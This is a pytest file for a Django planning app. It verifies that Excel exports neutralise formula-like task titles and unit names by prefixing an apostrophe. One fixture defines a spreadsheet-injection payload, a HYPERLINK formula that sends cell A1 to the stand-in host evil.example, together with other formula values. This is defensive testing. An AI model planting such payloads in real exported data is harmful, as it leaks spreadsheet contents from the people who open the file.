"""No export of the execution tables writes a live formula: a task title or a unit name typed as
"=…" comes out as text (see kehoach/core/spreadsheets.py)."""

from __future__ import annotations

import datetime as dt
from io import BytesIO

import pytest
from openpyxl import load_workbook

from kehoach.documents.models import Document
from kehoach.execution.exports import DASHBOARD_TABLES
from kehoach.execution.models.plans import Plan
from kehoach.execution.services.plans import requirement_set
from kehoach.execution.tests.plans.factories import PlanFactory, TaskFactory
from kehoach.organizations.choices import Role
from kehoach.organizations.models import Unit

pytestmark = pytest.mark.django_db

EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
EVIL_UNIT = "=1+2"


def cells(response):
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_no_formula(found):
    assert found, "the export is empty"
    assert [c.coordinate for c in found if c.data_type == "f"] == []


@pytest.fixture
def evil(two_branches):
    """An issued plan of branch A whose cell is named "=1+2", with a task titled "=HYPERLINK…"
    that is overdue and another one coming up."""
    Unit.objects.filter(pk=two_branches.a.child.pk).update(name=EVIL_UNIT)
    cell = Unit.objects.get(pk=two_branches.a.child.pk)
    plan = PlanFactory(unit=two_branches.a.unit, title="+Kế hoạch tuyên truyền")
    Plan.objects.filter(pk=plan.pk).update(status="issued", code="-15-KH/ThUA")
    plan.refresh_from_db()
    TaskFactory(
        plan=plan, title=EVIL_TITLE, lead_unit=cell, due_date=dt.date(2020, 1, 1), progress=20
    )
    TaskFactory(
        plan=plan,
        title="@SUM(1+1)",
        lead_unit=cell,
        due_date=dt.date.today() + dt.timedelta(days=3),
        progress=0,
    )
    return plan


def test_the_plans_tasks_export_writes_a_formula_like_title_and_unit_as_text(
    client, two_branches, evil
):
    client.force_login(two_branches.user("a", Role.VIEWER))
    found = cells(client.get(f"/plans/{evil.pk}/tasks.xlsx"))
    assert_no_formula(found)
    values = {c.value for c in found}
    assert "'" + EVIL_TITLE in values and "'" + EVIL_UNIT in values
    assert "'@SUM(1+1)" in values
    assert 20 in values  # numbers stay numbers


@pytest.mark.parametrize("table", sorted(DASHBOARD_TABLES))
def test_every_dashboard_table_export_writes_no_formula(client, two_branches, evil, table):
    client.force_login(two_branches.user("a", Role.EDITOR))
    found = cells(client.get(f"/plans/dashboard/{table}.xlsx?unit={two_branches.a.unit.pk}"))
    assert_no_formula(found)


@pytest.mark.parametrize(
    ("table", "expected"),
    [("overdue", EVIL_TITLE), ("upcoming", "@SUM(1+1)"), ("rag", EVIL_UNIT)],
)
def test_dashboard_exports_keep_the_typed_text_behind_an_apostrophe(
    client, two_branches, evil, table, expected
):
    client.force_login(two_branches.user("a", Role.EDITOR))
    found = cells(client.get(f"/plans/dashboard/{table}.xlsx?unit={two_branches.a.unit.pk}"))
    assert "'" + expected in {c.value for c in found}


def test_the_compliance_export_writes_a_formula_like_unit_name_as_text(client, two_branches):
    w = two_branches
    Unit.objects.filter(pk=w.a.unit.pk).update(name=EVIL_UNIT)
    d = Document.objects.create(
        code="27-CT/TW",
        code_key="27-ct-tw",
        owner_unit=w.root,
        sort_date=dt.date(2023, 12, 25),
        dedupe_key="k",
        title="Chỉ thị",
    )
    requirement_set(
        actor=None, directive=d, required_by=w.root, unit=w.a.unit, due_date=dt.date(2020, 1, 1)
    )
    client.force_login(w.root_admin)
    found = cells(client.get("/plans/compliance.xlsx"))
    assert_no_formula(found)
    assert "'" + EVIL_UNIT in {c.value for c in found}
